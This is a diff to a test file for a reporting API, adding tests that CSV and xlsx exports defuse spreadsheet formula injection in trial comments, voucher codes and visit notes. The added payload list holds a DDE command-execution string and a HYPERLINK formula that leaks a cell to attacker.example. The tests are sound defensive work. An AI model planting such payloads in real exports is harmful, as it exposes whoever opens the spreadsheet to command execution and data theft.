@@ -74,6 +74,17 @@ async function download(
   return { response, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) }
 }
 
+/** Cells a spreadsheet would run as formulas (OWASP CSV injection), a digit after `+`/`-` too. */
+const formulas = [
+  '+1+1',
+  '-2+3',
+  "+1+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
+  '@SUM(1)',
+  '\tx',
+  '\rx',
+]
+
 function answers(overrides: Partial<TrialAnswers>): TrialAnswers {
   return { ...guidedAnswers(), ...overrides }
 }
@@ -286,6 +297,84 @@ describe.each(databases)('reports on $name', (database) => {
         store.name,
       ],
     ])
+  })
+
+  it('defuses spreadsheet formulas (CSV injection) in trial comments, vouchers and visit notes; phones and numbers stay', async () => {
+    const admin = await signedIn(api, 'admin')
+    const store = await createStore(api)
+    const expert = await createUser(api)
+    const customer = await createCustomer(api)
+    const phoneTrial = await insertTrial(api.db, {
+      userId: expert.id,
+      storeId: store.id,
+      comment: answers({}),
+      now: new Date('2034-06-01T08:00:00Z'),
+    })
+    const codes = formulas.map((formula) => `${formula} ${uniqueWord()}`.toUpperCase())
+    for (const [index, formula] of formulas.entries()) {
+      const at = new Date(Date.UTC(2034, 5, 2, 8, index))
+      await insertTrial(api.db, { userId: expert.id, storeId: store.id, comment: formula, now: at })
+      await api.db.insert(vouchers).values({
+        code: codes[index] ?? '',
+        type: 'PROMO',
+        status: 'valid',
+        createdAt: at,
+        expiresAt: new Date('2034-12-31T00:00:00Z'),
+      })
+      await api.db.insert(visitNotes).values({
+        customerId: customer.id,
+        userId: expert.id,
+        storeId: store.id,
+        reason: 'info',
+        comment: formula,
+        createdAt: at,
+      })
+    }
+    const range = { format: 'csv', startAt: '2034-06-01', endAt: '2034-06-02' }
+    const report = async (type: string) => {
+      const { response, text } = await download(api, admin.token, { type, ...range })
+      expect(response.status).toBe(200)
+      const [header = [], ...rows] = parseCsv(text.slice(1))
+      return { rows, column: (name: string) => rows.map((row) => row[header.indexOf(name)]) }
+    }
+    const defused = (texts: string[]) => texts.map((text) => `'${text}`)
+
+    const trialsCsv = await report('trials')
+    expect(trialsCsv.column('Comment').slice(1)).toEqual(defused(formulas))
+    expect(trialsCsv.column('Id')[0]).toBe(String(phoneTrial))
+    expect(trialsCsv.column('Phone')[0]).toBe('+381641112233')
+    const vouchersCsv = await report('vouchers')
+    expect(vouchersCsv.column('Code')).toEqual(defused(codes))
+    const notesCsv = await report('visit-notes')
+    expect(notesCsv.column('Comment')).toEqual(defused(formulas))
+    // No cell but a phone starts as a formula would, whatever column it is in.
+    const cells = [trialsCsv, vouchersCsv, notesCsv].flatMap(({ rows }) => rows.flat())
+    const formulaCells = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
+    expect(formulaCells).toEqual(['+381641112233'])
+  })
+
+  it('writes formula-looking text into xlsx as text cells, never as formulas', async () => {
+    const admin = await signedIn(api, 'admin')
+    const store = await createStore(api)
+    const expert = await createUser(api)
+    for (const [index, formula] of formulas.entries()) {
+      const now = new Date(Date.UTC(2034, 7, 2, 8, index))
+      await insertTrial(api.db, { userId: expert.id, storeId: store.id, comment: formula, now })
+    }
+    const { bytes } = await download(api, admin.token, {
+      type: 'trials',
+      format: 'xlsx',
+      startAt: '2034-08-02',
+      endAt: '2034-08-02',
+    })
+    const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
+    expect(sheet).not.toMatch(/<f[ >]/)
+    const escaped = (text: string) => text.replace(/[&<>"]/g, (char) => `&#${char.charCodeAt(0)};`)
+    for (const formula of formulas) {
+      expect(sheet).toContain(
+        `t="inlineStr"><is><t xml:space="preserve">${escaped(formula)}</t></is></c>`,
+      )
+    }
   })
 
   it('streams a report longer than one batch, every trial once and in order', async () => {
